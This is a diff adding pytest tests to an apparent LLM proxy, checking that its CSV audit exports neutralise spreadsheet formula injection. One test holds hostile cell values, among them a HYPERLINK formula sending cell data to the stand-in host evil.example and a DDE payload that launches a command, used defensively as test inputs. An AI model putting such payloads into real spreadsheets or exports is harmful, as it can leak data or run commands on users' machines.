@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import secrets
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -11,6 +14,8 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from proxy import report
+from proxy.cli import main
 from tests.conftest import Proxy, copy_policies, proxy_settings
 from tests.fake_mistral import FakeMistral
 
@@ -242,3 +247,45 @@ def test_repeated_query_parameters_are_refused(proxy: Proxy, app_key: str) -> No
     r = httpx.get(f"{proxy.url}/usage", params=[("app", "support-bot"), ("app", "other")],
                   headers={"authorization": f"Bearer {app_key}"}, timeout=30)
     assert r.status_code == 400 and r.json()["error"]["param"] == "app"
+
+
+# -- 7. CSV exports are not spreadsheet formulas ------------------------------------------------
+
+def cells(text: str) -> set[str]:
+    return {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
+
+
+def test_csv_exports_neutralise_formulas(proxy: Proxy, auditor: str, fake: FakeMistral,
+                                         monkeypatch: pytest.MonkeyPatch,
+                                         capsys: pytest.CaptureFixture[str]) -> None:
+    app = "csv-" + secrets.token_hex(4)
+    key = proxy.key(app, "eu-standard")
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
+               "@SUM(A1:A9)"]
+    for model in hostile:
+        r = chat(proxy, key, model=model)
+        assert r.status_code == 404  # unknown model, but the row records the model asked for
+        proxy.row(r.headers["x-request-id"])
+    auth = {"authorization": f"Bearer {auditor}"}
+    exported = [
+        httpx.get(f"{proxy.url}/audit/export", params={"app": app}, headers=auth).text,
+        httpx.get(f"{proxy.url}/audit/usage", headers=auth,
+                  params={"app": app, "group_by": "model", "format": "csv"}).text,
+    ]
+    monkeypatch.setenv("EUROUTE_DATABASE_URL", proxy.settings.database_url)
+    monkeypatch.setenv("EUROUTE_POLICY_DIR", str(proxy.settings.policy_dir))
+    assert main(["audit", "export", "--app", app]) == 0
+    exported.append(capsys.readouterr().out)
+    assert main(["audit", "usage", "--app", app, "--group-by", "model", "--format", "csv"]) == 0
+    exported.append(capsys.readouterr().out)
+    for text in exported:
+        found = cells(text)
+        for model in hostile:
+            assert "'" + model in found and model not in found
+        assert not any(c.startswith(report._FORMULA) for c in found)
+
+
+def test_csv_neutralises_tab_and_cr_but_not_numbers() -> None:
+    rows = [{"a": "\tx", "b": "\r=1", "c": -5, "d": "plain", "e": ""}]
+    assert list(csv.reader(io.StringIO("".join(report.csv_lines(rows)), newline=""))) == [
+        ["a", "b", "c", "d", "e"], ["'\tx", "'\r=1", "-5", "plain", ""]]
